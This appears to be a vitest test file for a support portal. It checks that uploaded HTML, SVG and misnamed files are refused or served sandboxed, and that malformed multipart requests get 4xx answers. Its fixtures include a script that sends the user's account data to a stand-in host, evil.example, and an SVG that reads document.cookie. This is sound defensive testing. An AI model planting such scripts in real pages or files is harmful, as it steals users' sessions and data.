import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { documents, ticketAttachments, ticketReplies, tickets } from '../../db/schema.ts';
import { renderPdf } from '../../lib/pdf.ts';
import { DEMO_USERS } from '../../seed/demo.ts';
import { sessionCookieFor } from '../sign-in.ts';
import { useStaffTestApp } from '../staff-test-app.ts';
import { multipartBody } from '../staff-context.ts';

const SCRIPT_PAGE = Buffer.from(
  '<!doctype html><html><body><script>fetch("/api/auth/user").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>',
);
const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);
// The smallest PNG: its signature and an IHDR chunk are what identify it.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const FILE_CSP = "sandbox; default-src 'none'";

// Issue 13, item 2: an uploaded file never runs as a page of the site.
describe('hostile uploads, as the portal serves them', () => {
  const t = useStaffTestApp();
  const { ctx } = t;
  let customer: string;
  beforeAll(async () => {
    customer = await sessionCookieFor(t.app, DEMO_USERS.acme);
  });

  const send = async (name: string, declaredType: string, data: Buffer) => {
    const body = await multipartBody({ category: 'other' }, { name, type: declaredType, data });
    return t.app.inject({
      method: 'POST',
      url: `/api/staff/customers/${ctx.acmeId}/documents`,
      payload: body.payload,
      headers: { ...body.headers, cookie: ctx.staffCookie },
    });
  };
  async function upload(name: string, declaredType: string, data: Buffer) {
    const res = await send(name, declaredType, data);
    expect(res.statusCode, res.body).toBe(201);
    const id = res.json<{ id: string }>().id;
    const [row] = await t.app.db.select().from(documents).where(eq(documents.id, id));
    return row!;
  }
  const fetchFile = (id: string, inline = false) =>
    t.app.inject({
      method: 'GET',
      url: `/api/customers/${ctx.acmeId}/documents/${id}/download${inline ? '?inline=1' : ''}`,
      headers: { cookie: customer },
    });
  function expectSafeAttachment(res: Awaited<ReturnType<typeof fetchFile>>) {
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/octet-stream');
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment;/);
    expect(String(res.headers['content-security-policy'])).toContain(FILE_CSP);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['cache-control']).toBe('private, no-store');
  }

  // A name that promises a PDF or an image must keep the promise, and a script's name is
  // refused (the attachments' rules, outside attack 2026-11-29); what is stored is served safely
  // whatever it is (the legacy row below).
  it('an HTML page named "Q3 Report.pdf" and a script named app.js are refused', async () => {
    const before = await t.app.db.select({ id: documents.id }).from(documents);
    const page = await send('Q3 Report.pdf', 'application/pdf', SCRIPT_PAGE);
    expect(page.statusCode).toBe(400);
    expect(page.json()).toEqual({
      message: '"Q3 Report.pdf" is not the kind of file its name says',
    });
    const script = await send('app.js', 'application/javascript', Buffer.from('fetch("/")'));
    expect(script.statusCode).toBe(400);
    expect(script.json()).toEqual({ message: '"app.js" is a program and cannot be attached' });
    expect(await t.app.db.select({ id: documents.id }).from(documents)).toEqual(before);
  });

  it('an SVG and an HTML page are served as downloads of unknown bytes', async () => {
    for (const [name, type, data] of [
      ['logo.svg', 'image/svg+xml', SVG],
      ['page.html', 'text/html', SCRIPT_PAGE],
    ] as const) {
      const row = await upload(name, type, data);
      expect(row.contentType, name).not.toBe(type);
      expectSafeAttachment(await fetchFile(row.id));
      expectSafeAttachment(await fetchFile(row.id, false));
    }
  });

  it('a real PDF is stored as PDF and previewed inline, still sandboxed', async () => {
    const row = await upload('Real.pdf', 'application/octet-stream', await renderPdf('Real', []));
    expect(row.contentType).toBe('application/pdf');
    const preview = await fetchFile(row.id, true);
    expect(preview.statusCode).toBe(200);
    expect(preview.headers['content-type']).toBe('application/pdf');
    expect(String(preview.headers['content-disposition'])).toMatch(/^inline;/);
    expect(String(preview.headers['content-security-policy'])).toContain(FILE_CSP);
    expect(preview.headers['x-content-type-options']).toBe('nosniff');
    const download = await fetchFile(row.id);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(String(download.headers['content-disposition'])).toMatch(/^attachment;/);
  });

  it('an image is recognised from its bytes whatever it is called', async () => {
    const row = await upload('photo.dat', 'text/html', PNG);
    expect(row.contentType).toBe('image/png');
    const preview = await fetchFile(row.id, true);
    expect(preview.statusCode).toBe(400);
    const download = await fetchFile(row.id);
    expect(download.headers['content-type']).toBe('image/png');
    expect(String(download.headers['content-security-policy'])).toContain(FILE_CSP);
  });

  it('a row stored before sniffing, typed text/html, is judged by its bytes when served', async () => {
    const key = `customers/${ctx.acmeId}/legacy-upload`;
    await t.app.storage.put(key, SCRIPT_PAGE);
    const [row] = await t.app.db
      .insert(documents)
      .values({
        customerId: ctx.acmeId,
        name: 'Legacy.pdf',
        type: 'pdf',
        contentType: 'text/html',
        size: SCRIPT_PAGE.length,
        category: 'other',
        storageKey: key,
        uploadedBy: 'Before the fix',
      })
      .returning();
    expect((await fetchFile(row!.id, true)).statusCode).toBe(400);
    expectSafeAttachment(await fetchFile(row!.id));
  });

  it('the invoice PDF carries the same file headers', async () => {
    const list = await t.app.inject({
      method: 'GET',
      url: `/api/customers/${ctx.acmeId}/invoices`,
      headers: { cookie: customer },
    });
    const invoice = list.json<{ id: string }[]>()[0]!;
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/customers/${ctx.acmeId}/invoices/${invoice.id}/pdf`,
      headers: { cookie: customer },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(String(res.headers['content-disposition'])).toMatch(/^inline;/);
    expect(String(res.headers['content-security-policy'])).toContain(FILE_CSP);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['cache-control']).toBe('private, no-store');
  });

  // The outside attack of issue 35: a body that says multipart and is not was a 500.
  // Second outside attack (issue 35): busboy takes a part declared application/octet-stream
  // without a file name as a file with no name at all; that was a 500 on every upload route.
  it('stores a file part sent without a file name as "upload" on every upload route', async () => {
    const message = JSON.stringify({
      subject: 'Nameless file',
      description: 'A file part without a file name',
      category: 'Network & Security',
      department: 'IT Support',
      message: 'A file part without a file name',
    });
    const routes = [
      [`/api/customers/${ctx.acmeId}/tickets`, ctx.customerCookie, 'data', message],
      [`/api/customers/${ctx.acmeId}/tickets/TK-1001/replies`, ctx.customerCookie, 'data', message],
      [`/api/staff/customers/${ctx.acmeId}/documents`, ctx.staffCookie, 'category', 'other'],
      [`/api/staff/tickets/TK-1001/replies`, ctx.staffCookie, 'data', message],
    ] as const;
    for (const [url, cookie, field, value] of routes) {
      const payload =
        `--x\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n` +
        `--x\r\nContent-Disposition: form-data; name="file"\r\n` +
        `Content-Type: application/octet-stream\r\n\r\nhello\r\n--x--\r\n`;
      const res = await t.app.inject({
        method: 'POST',
        url,
        headers: { cookie, 'content-type': 'multipart/form-data; boundary=x' },
        payload,
      });
      expect(res.statusCode, `${url} ${res.body}`).toBe(201);
    }
    expect(await t.app.db.$count(ticketAttachments, eq(ticketAttachments.name, 'upload'))).toBe(3);
    expect(await t.app.db.$count(documents, eq(documents.name, 'upload'))).toBe(1);
  });

  // Third outside attack (issue 35): @fastify/multipart answered 406 Not Acceptable, which is
  // about the answer's type; the body's type is 415's.
  it('answers a JSON body on the document upload with 415 and a message', async () => {
    const url = `/api/staff/customers/${ctx.acmeId}/documents`;
    const res = await t.app.inject({
      method: 'POST',
      url,
      headers: { cookie: ctx.staffCookie },
      payload: {},
    });
    expect(res.statusCode, url).toBe(415);
    expect(res.json()).toEqual({ message: 'Send the form as multipart/form-data' });
  });

  // Issue 37: a message route takes its JSON or multipart; any other type is checked as JSON
  // would be (a 400 with the schema's message), never read as a message.
  it('answers a message sent as plain text (400) or with no type (415), and writes nothing', async () => {
    const routes = [
      [`/api/customers/${ctx.acmeId}/tickets`, ctx.customerCookie],
      [`/api/customers/${ctx.acmeId}/tickets/TK-1001/replies`, ctx.customerCookie],
      [`/api/staff/tickets/TK-1001/replies`, ctx.staffCookie],
    ] as const;
    const count = async () =>
      (await t.app.db.$count(tickets)) + (await t.app.db.$count(ticketReplies));
    const before = await count();
    for (const [url, cookie] of routes) {
      // Plain text is parsed, then checked as JSON would be; a body with no type is not parsed.
      for (const [headers, status] of [
        [{ 'content-type': 'text/plain' }, 400],
        [{}, 415],
      ] as const) {
        const res = await t.app.inject({
          method: 'POST',
          url,
          headers: { cookie, ...headers },
          payload: '{"message":"sent as text"}',
        });
        expect(res.statusCode, `${url} ${JSON.stringify(headers)}`).toBe(status);
        expect(res.json()).toEqual({ message: expect.any(String) });
      }
    }
    expect(await count()).toBe(before);
  });

  // Outside attack of 2026-11-28 (F2, I2): the multipart door checks its message as the JSON
  // door does; a lone surrogate in a subject was a 500, a second `data` replaced the first.
  it('checks a multipart message as the JSON door does: unstorable text, a second message', async () => {
    const url = `/api/customers/${ctx.acmeId}/tickets`;
    const post = async (...parts: string[]) => {
      const form = new FormData();
      for (const part of parts) form.append('data', part);
      const encoded = new Response(form);
      return t.app.inject({
        method: 'POST',
        url,
        payload: Buffer.from(await encoded.arrayBuffer()),
        headers: {
          cookie: ctx.customerCookie,
          'content-type': encoded.headers.get('content-type') ?? '',
        },
      });
    };
    const message = (subject: string) =>
      `{"subject":${subject},"description":"d","category":"Other","department":"IT Support"}`;
    const before = await t.app.db.$count(tickets);
    const surrogate = await post(message('"lone \\ud800 surrogate"'));
    expect(surrogate.statusCode, surrogate.body).toBe(400);
    expect(surrogate.json()).toEqual({ message: 'Text contains characters that cannot be stored' });
    const twice = await post(message('"first"'), message('"second"'));
    expect(twice.statusCode, twice.body).toBe(400);
    expect(twice.json()).toEqual({ message: 'Send the message once' });
    expect(await t.app.db.$count(tickets)).toBe(before);
    expect((await post(message('"once"'))).statusCode).toBe(201);
  });

  it('refuses a document upload of two files instead of keeping the first (second outside attack)', async () => {
    const before = await t.app.db.$count(documents);
    const one = await multipartBody(
      { category: 'other' },
      {
        name: 'a.txt',
        type: 'text/plain',
        data: Buffer.from('first'),
      },
    );
    const boundary = /boundary=(.+)$/.exec(one.headers['content-type'])![1]!;
    const second =
      `Content-Disposition: form-data; name="file"; filename="b.txt"\r\n` +
      `Content-Type: text/plain\r\n\r\nsecond\r\n--${boundary}--\r\n`;
    const payload = Buffer.concat([
      one.payload.subarray(0, one.payload.length - `--\r\n`.length),
      Buffer.from(`\r\n${second}`),
    ]);
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/staff/customers/${ctx.acmeId}/documents`,
      headers: { ...one.headers, cookie: ctx.staffCookie },
      payload,
    });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json()).toEqual({ message: 'Upload one file at a time' });
    expect(await t.app.db.$count(documents)).toBe(before);
  });

  it('answers a malformed multipart body on every upload route with 400, never 5xx', async () => {
    const ticket = 'TK-1001';
    const routes = [
      [`/api/customers/${ctx.acmeId}/tickets`, ctx.customerCookie],
      [`/api/customers/${ctx.acmeId}/tickets/${ticket}/replies`, ctx.customerCookie],
      [`/api/staff/customers/${ctx.acmeId}/documents`, ctx.staffCookie],
      [`/api/staff/tickets/${ticket}/replies`, ctx.staffCookie],
    ] as const;
    const bodies = [
      ['boundary=x', 'garbage'],
      ['boundary=x', '--x'],
      [
        'boundary=x',
        '--x\r\nContent-Disposition: form-data; name="data"\r\n\r\n{"message":"cut off',
      ],
      ['', 'x'],
      // A boundary over 256 bytes (the parser's own limit).
      [`boundary=${'b'.repeat(300)}`, `--${'b'.repeat(300)}\r\n`],
    ] as const;
    for (const [url, cookie] of routes) {
      for (const [boundary, payload] of bodies) {
        const res = await t.app.inject({
          method: 'POST',
          url,
          headers: { cookie, 'content-type': `multipart/form-data; ${boundary}`.trim() },
          payload,
        });
        expect(res.statusCode, `${url} ${payload} ${res.body}`).toBeGreaterThanOrEqual(400);
        expect(res.statusCode, `${url} ${payload} ${res.body}`).toBeLessThan(500);
        expect(res.json<{ message: string }>().message).toBeTruthy();
      }
    }
  });
});
